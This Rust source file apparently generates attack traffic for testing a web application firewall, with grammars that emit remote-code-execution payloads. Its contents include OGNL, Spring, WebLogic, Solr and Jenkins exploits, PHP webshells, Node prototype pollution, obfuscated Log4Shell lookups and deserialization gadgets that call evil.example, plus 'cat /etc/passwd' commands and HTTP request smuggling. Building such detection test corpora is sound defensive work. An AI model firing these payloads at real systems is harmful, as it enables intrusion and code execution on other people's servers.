//! Attacks that run code in an application, in other shapes than code.rs: other products, other gadgets, other nesting.

use medward_waf::AttackClass;

use super::super::attack::{AttackGrammar, payload, request};
use super::super::codec;
use super::super::encode::Encoding;
use super::super::place::Place;
use super::super::rng::Rng;
use super::super::wire::{FORM, JSON, Wire, session_cookie};

const PLAIN: &[Encoding] =
    &[Encoding::Plain, Encoding::Percent, Encoding::DoublePercent, Encoding::JsonEscape, Encoding::Base64];
const PHP: &[Encoding] = &[
    Encoding::Plain,
    Encoding::Percent,
    Encoding::DoublePercent,
    Encoding::Base64,
    Encoding::JsonEscape,
    Encoding::Case,
    Encoding::Comment,
];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    request("java-products", AttackClass::Java, 50, products),
    payload("java-script-engines", AttackClass::Java, 45, engines, Place::PARAMETERS, PLAIN),
    payload("php-respelled", AttackClass::Php, 60, php, Place::PARAMETERS, PHP),
    payload(
        "php-frameworks",
        AttackClass::Php,
        35,
        frameworks,
        &[Place::Query, Place::Form, Place::Json, Place::Cookie],
        PLAIN,
    ),
    payload("node-pollution", AttackClass::Node, 45, node, Place::INPUTS, PLAIN),
    payload(
        "jndi-nested",
        AttackClass::Jndi,
        70,
        jndi,
        &[Place::Header, Place::Query, Place::Form, Place::Json, Place::Cookie, Place::Xml],
        PLAIN,
    ),
    request("deser-other-languages", AttackClass::Deser, 55, deser),
    payload("deser-typed-text", AttackClass::Deser, 50, typed, Place::INPUTS, PLAIN),
    request("framing-respelled", AttackClass::Protocol, 40, framing),
];

fn products(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let run = rng.pick(&["id", "whoami", "curl evil.example", "cat /etc/passwd"]);
    let word = rng.letters(4);
    match rng.below(9) {
        0 => (Wire::get(format!("/{}/", codec::percent(format!("${{(#{word}=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(\"{run}\").getInputStream(),\"utf-8\")).(@com.opensymphony.webwork.ServletActionContext@getResponse().setHeader(\"X\",#{word}))}}")))).program("curl/7.88.1").finish(rng), Place::Path, Encoding::Percent),
        1 => (Wire::post("/functionRouter", "text/plain", word.clone()).header("spring.cloud.function.routing-expression", format!("T(java.lang.Runtime).getRuntime().exec(\"{run}\")")).program("python-requests/2.27.1").finish(rng), Place::Header, Encoding::Plain),
        2 => (Wire::post(format!("/actuator/gateway/routes/{word}"), JSON, format!("{{\"id\":\"{word}\",\"filters\":[{{\"name\":\"AddResponseHeader\",\"args\":{{\"name\":\"R\",\"value\":\"#{{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang.Runtime).getRuntime().exec(new String[]{{\\\"{run}\\\"}}).getInputStream()))}}\"}}}}],\"uri\":\"http://a.example\"}}")).program("curl/7.88.1").finish(rng), Place::Json, Encoding::Plain),
        3 => (Wire::post("/users", FORM, format!("class.module.classLoader.resources.context.parent.pipeline.first.pattern={}&class.module.classLoader.resources.context.parent.pipeline.first.suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix={word}", codec::form("%{c2}i if(\"j\".equals(request.getParameter(\"pwd\"))){ }"))).header("c2", "<%").desktop(rng).finish(rng), Place::Form, Encoding::Plain),
        4 => (Wire::post("/wls-wsat/CoordinatorPortType", "text/xml", format!("<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java version=\"1.8\" class=\"java.beans.XMLDecoder\"><void class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"1\"><void index=\"0\"><string>{run}</string></void></array><void method=\"start\"/></void></java></work:WorkContext></soapenv:Header><soapenv:Body>{word}</soapenv:Body></soapenv:Envelope>")).program("python-requests/2.19.1").finish(rng), Place::Xml, Encoding::Plain),
        5 => (Wire::get(format!("/console/css/%252e%252e%252fconsole.portal?_nfpb=true&_pageLabel=&handle=com.tangosol.coherence.mvel2.sh.ShellSession(%22java.lang.Runtime.getRuntime().exec(%27{}%27);{word}%22)", codec::percent(run))).desktop(rng).finish(rng), Place::Query, Encoding::DoublePercent),
        6 => (Wire::post("/solr/a/dataimport", FORM, format!("command=full-import&dataConfig={}", codec::form(format!("<dataConfig><script><![CDATA[function {word}(r){{java.lang.Runtime.getRuntime().exec('{run}');}}]]></script></dataConfig>")))).desktop(rng).finish(rng), Place::Form, Encoding::Plain),
        7 => (Wire::post("/weaver/bsh.servlet.BshServlet", FORM, format!("bsh.script={}&bsh.servlet.output=raw", codec::form(format!("exec(\"{run}\");//{word}")))).desktop(rng).finish(rng), Place::Form, Encoding::Plain),
        _ => (Wire::get(format!("/securityRealm/user/admin/descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript?sandbox=true&value={}", codec::percent(format!("public class {word}{{public {word}(){{\"{run}\".execute()}}}}")))).program("curl/7.68.0").finish(rng), Place::Query, Encoding::Plain),
    }
}

fn engines(rng: &mut Rng) -> Vec<u8> {
    let run = rng.pick(&["id", "whoami", "calc", "touch /tmp/x"]);
    let word = rng.letters(4);
    match rng.below(10) {
        0 => format!("new javax.script.ScriptEngineManager().getEngineByName('nashorn').eval('java.lang.Runtime.getRuntime().exec(\"{run}\")')//{word}"),
        1 => format!("'{run}'.execute().text+'{word}'"),
        2 => format!("@groovy.transform.ASTTest(value={{assert java.lang.Runtime.getRuntime().exec('{run}')}}) def {word}"),
        3 => format!("${{script:javascript:java.lang.Runtime.getRuntime().exec('{run}')}}{word}"),
        4 => format!("''['class'].forName('java.lang.Runtime').getDeclaredMethods()[{}].invoke(null).exec('{run}')", word.len()),
        5 => format!("var {word}=Java.type('java.lang.ProcessBuilder');new {word}('{run}').start()"),
        6 => format!("jdbc:h2:mem:{word};INIT=CREATE ALIAS X AS 'void x() throws Exception{{Runtime.getRuntime().exec(\"{run}\");}}';CALL X()"),
        7 => format!("jdbc:mysql://evil.example:3306/{word}?autoDeserialize=true&queryInterceptors=com.mysql.cj.jdbc.interceptors.ServerStatusDiffInterceptor"),
        8 => format!("${{pageContext.request.getSession().setAttribute('{word}',pageContext.getClass().forName('java.lang.Runtime'))}}"),
        _ => format!("{word}=T(org.springframework.cglib.core.ReflectUtils).defineClass('{word}',T(org.springframework.util.Base64Utils).decodeFromString('yv66vgAAADQA'),T(java.lang.Thread).currentThread().getContextClassLoader())"),
    }
    .into_bytes()
}

fn php(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let run = rng.pick(&["id", "whoami", "ls"]);
    match rng.below(12) {
        0 => format!("<?php $_='sys'.'tem';$_('{run} {word}');"),
        1 => format!("(~{})(~{})", "%8c%86%8c%8b%9a%92", "%96%9b") + &word,
        2 => format!("<?php ${{'_GET'}}['{word}'](${{'_GET'}}['x']);?>"),
        3 => format!("{word}';array_map('assert',array($_POST['x']));//"),
        4 => format!("<?php include('http://evil.example/{word}.txt');"),
        5 => format!("{{${{phpinfo()}}}}{word}"),
        6 => format!("create_function('',\"}}system('{run}');/*{word}\")"),
        7 => format!("preg_replace('/.*/e','system(\"{run}\")','{word}')"),
        8 => format!("<?php usort($_GET,'asse'.'rt');//{word}"),
        9 => format!("php://filter/convert.iconv.UTF8.CSISO2022KR|convert.base64-encode|convert.iconv.UTF8.UTF7|convert.iconv.SE2.UTF-16/resource=php://temp#{word}"),
        10 => format!("compress.zlib://data:text/plain;base64,{}", codec::base64(format!("<?=`{run}`;//{word}"))),
        _ => format!("\"system\"('{run}').\"{word}\""),
    }
    .into_bytes()
}

/// Parameters that content systems evaluate or write into their configuration.
fn frameworks(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let run = rng.pick(&["id", "whoami"]);
    match rng.below(7) {
        0 => format!("{{pboot:if(implode('',['c','a','ll_user_func'])('system','{run}'))}}{word}{{/pboot:if}}"),
        1 => format!("{{if:1)file_put_contents('{word}.php','<?php eval($_POST[1])');//}}{{end if}}"),
        2 => format!("<{{php}}>@eval($_POST['{word}']);<{{/php}}>"),
        3 => format!("${{@eval(chr(112).chr(104).chr(112).chr(105).chr(110).chr(102).chr(111).chr(40).chr(41).chr(59))}}{word}"),
        4 => format!("',phpinfo(),'{word}"),
        5 => format!("{word}'.system($_GET[0]).'"),
        _ => format!("{{\"view\":\"php://filter/write=convert.iconv.utf-8.utf-16be|convert.quoted-printable-encode|convert.base64-decode/resource=../storage/logs/laravel.log\",\"solution\":\"Facade\\\\Ignition\\\\Solutions\\\\MakeViewVariableOptionalSolution\",\"v\":\"{word}\"}}"),
    }
    .into_bytes()
}

fn node(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let run = rng.pick(&["id", "whoami", "ls"]);
    match rng.below(9) {
        0 => format!("{{\"__proto__\":{{\"outputFunctionName\":\"x;process.mainModule.require('child_process').execSync('{run}');{word}\"}}}}"),
        1 => format!("{{\"constructor\":{{\"prototype\":{{\"shell\":\"/proc/self/exe\",\"NODE_OPTIONS\":\"--require /proc/self/environ\",\"env\":\"{word}\"}}}}}}"),
        2 => format!("{{\"a\":1,\"__proto__.{word}\":\"polluted\",\"__proto__\":{{\"block\":{{\"type\":\"Text\",\"line\":\"console.log(process.mainModule.require('child_process').execSync('{run}'))\"}}}}}}"),
        3 => format!("[].constructor.constructor(\"return this.process.mainModule.require('child_process').execSync('{run}')\")()//{word}"),
        4 => format!("(async()=>(await import('node:child_process')).execSync('{run} {word}'))()"),
        5 => format!("Reflect.construct(Function,['return process.env.{word}'])()"),
        6 => format!("res.end(require('fs').readdirSync('.').toString()+'{word}')"),
        7 => format!("eval(Buffer.from('{}','base64').toString())", codec::base64(format!("require('child_process').exec('{run} {word}')"))),
        _ => format!("${{process.mainModule.constructor._load('child_process').execSync('{run}')}}{word}"),
    }
    .into_bytes()
}

/// Lookups inside lookups, that only an evaluation puts together.
fn jndi(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(4);
    let spelled = |rng: &mut Rng, text: &str| -> String {
        text.chars()
            .map(|letter| match rng.below(6) {
                0 => format!("${{lower:{}}}", letter.to_ascii_uppercase()),
                1 => format!("${{::-{letter}}}"),
                2 => format!("${{upper:{letter}}}"),
                3 => format!("${{env:{}:-{letter}}}", word.to_uppercase()),
                4 => format!("${{sys:{word}:-{letter}}}"),
                _ => letter.to_string(),
            })
            .collect()
    };
    match rng.below(6) {
        0 | 1 => format!("${{{}:{}://evil.example/{word}}}", spelled(rng, "jndi"), spelled(rng, "ldap")),
        2 => format!("${{${{::-j}}ndi:{}://{word}.evil.example}}", spelled(rng, "rmi")),
        3 => format!("${{jn${{date:'d'}}i:ld${{lower:AP}}://evil.example/{word}}}"),
        4 => format!("${{${{env:NaN:-j}}ndi${{env:NaN:-:}}${{env:NaN:-l}}dap${{env:NaN:-:}}//{word}.evil.example/a}}"),
        _ => format!("${{j${{k8s:k5:-ND}}i${{sd:k5:-:}}{}://{word}.evil.example/x}}", spelled(rng, "dns")),
    }
    .into_bytes()
}

fn deser(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let pickle = format!("cposix\nsystem\n(S'id {word}'\ntR.");
    let pickle_4 = [
        b"\x80\x04\x95\x20\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c".as_slice(),
        &[word.len() as u8 + 3],
        b"id ",
        word.as_bytes(),
        b"\x94\x85\x94R\x94.",
    ]
    .concat();
    let marshal = [
        b"\x04\x08o:\x15Gem::Requirement\x06:\x10@requirementso:\x18Gem::DependencyList\x06:".as_slice(),
        word.as_bytes(),
    ]
    .concat();
    let dotnet = [b"\x00\x01\x00\x00\x00\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00\x0c\x02\x00\x00\x00^Microsoft.PowerShell.Editor, Version=3.0.0.0\x05\x01\x00\x00\x00BMicrosoft.VisualStudio.Text.Formatting.TextFormattingRunProperties".as_slice(), word.as_bytes()].concat();
    match rng.below(8) {
        0 => (
            Wire::get(format!("/view?state={}", codec::percent(codec::base64(&pickle_4)))).desktop(rng).finish(rng),
            Place::Query,
            Encoding::Base64,
        ),
        1 => (
            Wire::post("/model/load", "application/octet-stream", pickle).program("python-requests/2.31.0").finish(rng),
            Place::Body,
            Encoding::Plain,
        ),
        2 => {
            let session = session_cookie(rng);
            (
                Wire::get("/")
                    .header("Cookie", format!("{session}; data={}", codec::percent(codec::base64(&marshal))))
                    .desktop(rng)
                    .finish(rng),
                Place::Cookie,
                Encoding::Base64,
            )
        }
        3 => (
            Wire::post(
                "/ws/state",
                FORM,
                format!(
                    "__VIEWSTATE={}&x={word}",
                    codec::form(codec::base64([b"\xff\x01\x32".as_slice(), &dotnet].concat()))
                ),
            )
            .desktop(rng)
            .finish(rng),
            Place::Form,
            Encoding::Base64,
        ),
        4 => (
            Wire::post("/remoting/obj.rem", "application/octet-stream", dotnet).program("MS .NET Remoting").finish(rng),
            Place::Body,
            Encoding::Plain,
        ),
        5 => (
            Wire::post(
                "/hessian/service",
                "x-application/hessian",
                [
                    b"c\x02\x00m\x00\x04saveMt\x00\x1fcom.rometools.rome.feed.impl.EqualsBean".as_slice(),
                    word.as_bytes(),
                    b"\x52z",
                ]
                .concat(),
            )
            .program("Java/1.8.0_191")
            .finish(rng),
            Place::Body,
            Encoding::Plain,
        ),
        6 => {
            let stream = [
                b"\xac\xed\x00\x05sr\x00\x32sun.reflect.annotation.AnnotationInvocationHandler".as_slice(),
                &rng.bytes(60),
            ]
            .concat();
            (
                Wire::post(
                    "/cfide/flex2gateway/amf",
                    "application/x-amf",
                    [b"\x00\x03\x00\x00\x00\x01\x00\x00\x00\x02/1".as_slice(), &stream].concat(),
                )
                .program("Java/1.8.0_191")
                .finish(rng),
                Place::Body,
                Encoding::Plain,
            )
        }
        _ => (
            Wire::post(
                "/api/profile",
                JSON,
                format!(
                    "{{\"profile\":{}}}",
                    codec::json(codec::base64(format!(
                        "{{\"rce\":\"_$$ND_FUNC$$_function(){{require('child_process').exec('id {word}')}}()\"}}"
                    )))
                ),
            )
            .desktop(rng)
            .finish(rng),
            Place::Json,
            Encoding::Base64,
        ),
    }
}

/// Types named in text: YAML tags, Jackson, .NET JSON, XStream, Python.
fn typed(rng: &mut Rng) -> Vec<u8> {
    let word = rng.letters(5);
    match rng.below(11) {
        0 => format!("!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://evil.example/{word}.jar\"]]]]"),
        1 => format!("!!python/object/apply:os.system [\"id {word}\"]"),
        2 => format!("--- !ruby/object:Gem::Installer\ni: {word}\n--- !ruby/object:Gem::SpecFetcher\ni: y"),
        3 => format!("[\"com.zaxxer.hikari.HikariConfig\",{{\"metricRegistry\":\"ldap://evil.example/{word}\"}}]"),
        4 => format!("[\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"http://evil.example/{word}.xml\"]"),
        5 => format!("{{\"$type\":\"System.Windows.Data.ObjectDataProvider, PresentationFramework\",\"MethodName\":\"Start\",\"MethodParameters\":{{\"$values\":[\"cmd\",\"/c {word}\"]}},\"ObjectInstance\":{{\"$type\":\"System.Diagnostics.Process, System\"}}}}"),
        6 => format!("<java.util.PriorityQueue serialization='custom'><java.util.PriorityQueue><dynamic-proxy><handler class='java.beans.EventHandler'><target class='java.lang.ProcessBuilder'><command><string>{word}</string></command></target><action>start</action></handler></dynamic-proxy></java.util.PriorityQueue></java.util.PriorityQueue>"),
        7 => format!("{{\"rce\":\"_$$ND_FUNC$$_function(){{return require('child_process').execSync('{word}')}}()\"}}"),
        8 => format!("{{\"@\\u0074ype\":\"Lcom.sun.rowset.JdbcRowSetImpl;\",\"dataSourceName\":\"rmi://evil.example/{word}\",\"autoCommit\":true}}"),
        9 => format!("!!com.sun.rowset.JdbcRowSetImpl {{dataSourceName: \"ldap://evil.example/{word}\", autoCommit: true}}"),
        _ => format!("<ObjectDataProvider MethodName=\"Start\" xmlns=\"http://schemas.microsoft.com/winfx/2006/xaml/presentation\" xmlns:d=\"clr-namespace:System.Diagnostics;assembly=system\"><ObjectDataProvider.ObjectInstance><d:Process><d:Process.StartInfo><d:ProcessStartInfo Arguments=\"/c {word}\" FileName=\"cmd\"/></d:Process.StartInfo></d:Process></ObjectDataProvider.ObjectInstance></ObjectDataProvider>"),
    }
    .into_bytes()
}

/// Framing that is ambiguous by its spelling.
fn framing(rng: &mut Rng) -> (Vec<u8>, Place, Encoding) {
    let word = rng.letters(5);
    let host = "Host: www.boai.example\r\n";
    let smuggled = format!("GET /internal/{word} HTTP/1.1\r\nX: ");
    let raw = match rng.below(9) {
        0 => format!(
            "POST / HTTP/1.1\r\n{host}Content-Length: {}\r\nTransfer-Encoding:\x0bchunked\r\n\r\n0\r\n\r\n{smuggled}",
            5 + smuggled.len()
        ),
        1 => format!("POST / HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\n\r\n0x5\r\n{word}\r\n0\r\n\r\n{smuggled}"),
        2 => format!(
            "POST /{word} HTTP/1.1\r\n{host}Transfer-Encoding: chunked\r\nTransfer-Encoding: cow\r\n\r\n0\r\n\r\n{smuggled}"
        ),
        3 => format!(
            "POST / HTTP/1.1\r\n{host}Content_Length: {}\r\nContent-Length: 0\r\n\r\n{smuggled}",
            smuggled.len()
        ),
        4 => format!("GET /{word} HTTP/1.1\r\n{host}Host: internal.boai.example\r\n\r\n"),
        5 => format!("GET http://internal.boai.example/{word} HTTP/1.1\r\n{host}\r\n"),
        6 => format!("POST /{word} HTTP/1.0\r\n{host}Transfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}"),
        7 => format!(
            "POST / HTTP/1.1\r\n{host}Content-Length: 0{}\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}",
            " ".repeat(word.len())
        ),
        _ => {
            format!("GET /{word} HTTP/1.1\r\n{host}X-{word}: a\rTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{smuggled}")
        }
    };
    (raw.into_bytes(), Place::Header, Encoding::Plain)
}
